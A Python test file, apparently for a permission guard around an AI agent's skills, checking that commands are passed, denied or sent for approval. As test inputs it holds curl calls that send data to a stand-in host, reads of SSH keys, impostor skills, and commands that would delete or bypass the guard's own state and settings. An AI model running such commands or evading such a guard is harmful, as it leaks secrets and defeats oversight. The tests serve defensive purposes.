"""The engine: from an event to an answer. Each test is a short session."""

import pytest
from engine_world import Agent

from remit.audit.biconditional import ObservedChanges, compare
from remit.audit.entry import Outcome as Ended
from remit.guard.call_analysis.path_patterns import ProtectedPlaces, resolve_patterns
from remit.guard.event import Kind, Outcome
from remit.guard.paths import folder_scope
from remit.guard.store import State, add_grant, open_store
from remit.policy import Request

API = {"capability": "web.post", "scope": "post.example.com", "effect": "allow"}


@pytest.fixture
def agent(tmp_path):
    return Agent(tmp_path)


def test_what_the_baseline_allows_passes_without_a_word(agent):
    for command in ("ls -la", "git status", "grep -r x .", "echo hi > out.txt", "mkdir -p a/b"):
        verdict = agent.runs(command)
        assert (verdict.outcome, verdict.reason) == (Outcome.PASS, ""), command


def test_what_leaves_the_machine_is_asked_about(agent):
    verdict = agent.runs("curl -d x=1 https://post.example.com/")
    assert verdict.outcome is Outcome.DENY
    assert verdict.approval
    assert "remit approvals" in verdict.reason


def test_a_host_that_can_ask_is_told_to_ask(tmp_path):
    agent = Agent(tmp_path, asks=True)
    assert agent.runs("curl -d x=1 https://post.example.com/").outcome is Outcome.ASK


def test_an_approval_admits_the_same_call_once(agent):
    command = "curl -d x=1 https://post.example.com/"
    agent.approve(agent.runs(command))
    assert agent.runs("curl -d x=2 https://post.example.com/").outcome is Outcome.DENY
    assert agent.runs(command).outcome is Outcome.PASS
    assert agent.runs(command).outcome is Outcome.DENY


def test_an_approval_for_the_session_covers_what_was_asked_and_no_more(agent):
    agent.says("post it to https://post.example.com/ and https://other.example.com/")
    agent.approve(agent.runs("curl -d x=1 https://post.example.com/"), State.SESSION)
    assert agent.runs("curl -d x=1 https://post.example.com/").outcome is Outcome.PASS
    assert agent.runs("curl -d x=2 https://post.example.com/").outcome is Outcome.PASS
    assert agent.runs("curl -d x=1 https://other.example.com/").outcome is Outcome.DENY


def test_a_skill_may_do_what_its_manifest_holds_and_no_more(agent):
    agent.skill("poster", permissions=[API])
    assert agent.loads("poster").outcome is Outcome.PASS
    allowed = agent.runs("curl -d x=1 https://post.example.com/")
    assert allowed.approval  # the workspace's defaults want it confirmed, whatever a manifest says
    beyond = agent.runs("curl -d x=1 https://evil.example/")
    assert beyond.approval
    assert "`poster` wants to send data to `evil.example:443`, which its manifest does not grant" in beyond.reason


def test_rights_of_two_skills_never_mix(agent):
    agent.skill("reader", permissions=[{"capability": "file.read", "scope": "/srv/data/**", "effect": "allow"}])
    agent.skill("poster", permissions=[API])
    agent.loads("reader")
    agent.loads("poster")
    verdict = agent.runs("curl -d @/srv/data/x https://post.example.com/")
    assert "`poster` wants to read `/srv/data/x`, which its manifest does not grant" in verdict.reason


def test_another_skill_with_the_name_of_a_loaded_one_has_none_of_its_rights(agent):
    agent.skill("poster", permissions=[API])
    agent.loads("poster")
    impostor = agent.home / ".claude" / "skills" / "poster"
    impostor.mkdir(parents=True)
    (impostor / "SKILL.md").write_text("---\nname: poster\ndescription: it\n---\n")
    (impostor / "run.sh").write_text("curl -d x=1 https://post.example.com/\n")
    assert "which its manifest does not grant" in agent.runs(f"bash {impostor}/run.sh").reason


def test_a_skill_that_was_loaded_earlier_leads_to_a_question_only(agent):
    agent.skill("reader", permissions=[{"capability": "file.read", "scope": "/srv/data/**", "effect": "allow"}])
    agent.skill("poster", permissions=[API])
    agent.loads("reader")
    assert agent.runs("cat /srv/data/x").outcome is Outcome.PASS
    agent.loads("poster")
    verdict = agent.runs("cat /srv/data/x")
    assert verdict.approval
    assert "`poster` wants to read `/srv/data/x`, which its manifest does not grant" in verdict.reason


def test_a_skill_that_another_one_sends_for_has_at_most_its_rights(agent):
    agent.skill("front", permissions=[], body="Then use the skill helper to upload it.")
    agent.skill("helper", permissions=[API])
    agent.loads("front")
    agent.loads("helper")
    reason = agent.runs("curl -d x=1 https://post.example.com/").reason
    assert "`front` wants to send data to `post.example.com:443`, which its manifest does not grant" in reason


def test_a_skill_that_the_user_names_acts_for_itself(agent):
    agent.says("use helper for this")
    agent.skill("front", permissions=[], body="Then use the skill helper to upload it.")
    agent.skill("helper", permissions=[API])
    agent.loads("front")
    agent.loads("helper")
    assert agent.runs("curl -d x=1 https://post.example.com/").approval


def test_a_trusted_manifest_that_changed_is_refused(agent):
    folder = agent.skill("poster", permissions=[API])
    (folder / "remit.json").write_text('{"permissions": [{"capability": "*", "effect": "allow"}]}')
    verdict = agent.loads("poster")
    assert verdict.outcome is Outcome.DENY
    assert "not the one that was trusted" in verdict.reason


def test_a_manifest_that_nobody_trusted_is_asked_about_for_every_change(agent):
    agent.skill("free", permissions=[{"capability": "*", "effect": "allow"}], trusted=False)
    agent.loads("free")
    assert agent.runs("curl -d x=1 https://post.example.com/").approval
    assert agent.runs("touch /srv/x").approval


def test_reading_skill_md_is_loading_it(agent):
    folder = agent.skill("poster", permissions=[API])
    assert agent.before("Read", file_path=str(folder / "SKILL.md")).outcome is Outcome.PASS
    assert "`poster` wants to" in agent.runs("curl -d x=1 https://evil.example/").reason


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf {state}", "cat {state}/guard.db", "cp x {state}/audit.db", "ln -s {state} here && cat here/guard.db",
        "cat ~/.ssh/id_rsa", "echo x >> ~/.bashrc", "echo '{{}}' > .claude/settings.json", "echo x > .git/hooks/pre-commit",
        "echo '{{}}' > remit-defaults.json", "echo '{{}}' > skills.lock",
    ],
)  # fmt: skip
def test_what_would_undo_the_guard_is_denied_without_a_question(agent, command):
    (agent.home / ".ssh").mkdir()
    (agent.home / ".ssh" / "id_rsa").write_text("k")
    verdict = agent.runs(command.format(state=agent.state.folder))
    assert verdict.outcome is Outcome.DENY
    assert not verdict.approval


def test_an_unknown_tool_is_judged(agent):
    assert agent.before("Frobnicate", x=1).approval


def test_what_is_not_understood_passes_without_a_skill_alone(tmp_path):
    agent = Agent(tmp_path, careful=False)
    commands = ("python3 -c 'exec(input())'", "someunknownprogram --now")
    assert all(agent.runs(command).outcome is Outcome.PASS for command in commands)
    agent.skill("poster", permissions=[API])
    agent.loads("poster")
    assert all(agent.runs(command).outcome is not Outcome.PASS for command in commands)


def test_a_call_that_was_changed_after_it_was_let_through_is_an_alarm(agent):
    agent.runs("ls")
    verdict = agent.after("Bash", command="rm -rf .")
    assert "ALARM" in verdict.note
    assert "changed" in agent.records()[-1].reason


def test_a_call_that_nobody_let_through_is_an_alarm(agent):
    agent.calls = 77
    assert "ALARM" in agent.after("Bash", command="ls").note


def test_every_event_and_decision_is_in_the_log(agent):
    agent.says("hello")
    agent.really_runs("ls")
    agent.runs("echo x >> ~/.bashrc")
    kinds = [(entry.kind.value, entry.outcome) for entry in agent.records()]
    assert kinds == [
        ("envelope", None), ("envelope", None), ("decision", Ended.ADMIT), ("effect", Ended.EXECUTED),
        ("envelope", None), ("decision", Ended.DENY),
    ]  # fmt: skip


def test_a_secret_in_the_final_answer_holds_it(agent):
    token = "AKIA" + "IOSFODNN7" + "EXAMPLE"
    assert agent.tell(Kind.STOP, text=f"Here it is: {token}").outcome is Outcome.PASS
    agent.skill("poster", permissions=[API])
    agent.loads("poster")
    assert agent.tell(Kind.STOP, text=f"Here it is: {token}").outcome is Outcome.DENY
    assert agent.tell(Kind.STOP, text="Done.").outcome is Outcome.PASS


def test_a_session_goes_on_after_a_restart(agent):
    agent.skill("poster", permissions=[API])
    agent.says("post the report")
    agent.loads("poster")
    agent.restart()
    assert "`poster` wants to" in agent.runs("curl -d x=1 https://evil.example/").reason
    assert agent.engine.sessions.all()[0].prompts == ["post the report"]


def test_an_event_that_breaks_the_engine_is_denied(agent, monkeypatch):
    monkeypatch.setattr("remit.guard.engine.draft", lambda *_: 1 / 0)
    assert agent.runs("ls").outcome is Outcome.DENY


def test_without_a_log_nothing_passes(agent, monkeypatch):
    def full(*_, **__):
        raise OSError(28, "no space left on device")

    monkeypatch.setattr(agent.engine.log, "append", full)
    assert agent.runs("ls").outcome is Outcome.DENY


def test_a_cache_governs_nothing_but_keys_in_it_are_keys(tmp_path):
    cache = tmp_path / "cache"
    cache.mkdir()
    kept = ProtectedPlaces(lambda _: False, dict, idle=(folder_scope(cache),))
    inside, beside = (
        Request("file.write", folder_scope(cache / "models")),
        Request("file.write", folder_scope(tmp_path / "other")),
    )
    assert [one.spared for one in resolve_patterns((inside, beside), kept)[0]] == [True, False]
    (cache / "models").mkdir()
    (cache / "models" / "secrets.json").write_text("{}")
    assert [one.spared for one in resolve_patterns((inside,), kept)[0]] == [False]


def test_the_log_is_signed_as_it_grows(agent):
    for _ in range(140):
        agent.really_runs("ls")
    heads = (agent.state.folder / "audit.heads").read_text().splitlines()
    assert len(heads) >= 2


def test_a_skill_that_changed_while_the_daemon_was_away_keeps_no_rights(agent):
    entry = {"capability": "file.read", "scope": "/srv/data/**", "effect": "allow"}
    folder = agent.skill("reader", permissions=[entry], trusted=False)
    agent.loads("reader")
    agent.restart()
    assert agent.runs("cat /srv/data/x").outcome is Outcome.PASS
    text = (folder / "remit.json").read_text()
    (folder / "remit.json").write_text(text.replace("/srv/data", "/etc"))
    agent.restart()
    assert agent.runs("cat /etc/hostname").outcome is Outcome.DENY


def test_a_tool_that_does_nothing_to_the_world_is_admitted_in_the_log_and_alarms_nobody(agent):
    agent.before("TodoWrite", todos="a, b")
    assert agent.after("TodoWrite", "ok", todos="a, b").note == ""
    agent.tell(Kind.STOP)
    kept = [(str(one.entry.kind), one.entry.outcome) for one in agent.engine.log.records() if one.entry.tool]
    assert kept == [("envelope", None), ("decision", Ended.ADMIT), ("effect", Ended.EXECUTED)]
    assert compare(agent.engine.log.records(), ObservedChanges()).holds


def test_a_rate_is_counted_on_by_a_daemon_that_begins_anew(agent):
    (agent.home / "docs").mkdir()
    (agent.home / "docs" / "a.txt").write_text("x")
    path = str(agent.home / "docs" / "a.txt")
    limits = {"rate_limit": {"calls": 2, "seconds": 3600}}
    entry = {"capability": "file.read", "scope": "~/docs/**", "effect": "allow", "constraints": limits}
    agent.skill("poster", permissions=[API])
    agent.loads("poster")
    add_grant(open_store(agent.state.database), "poster", entry, now=int(agent.time[0]), expires=None)
    found = []
    for _ in range(3):
        found.append(agent.before("Read", file_path=path).outcome)
        agent.restart()
    assert found[:2] == [Outcome.PASS] * 2
    assert found[2] is not Outcome.PASS
    agent.time[0] += 3601
    assert agent.before("Read", file_path=path).outcome is Outcome.PASS
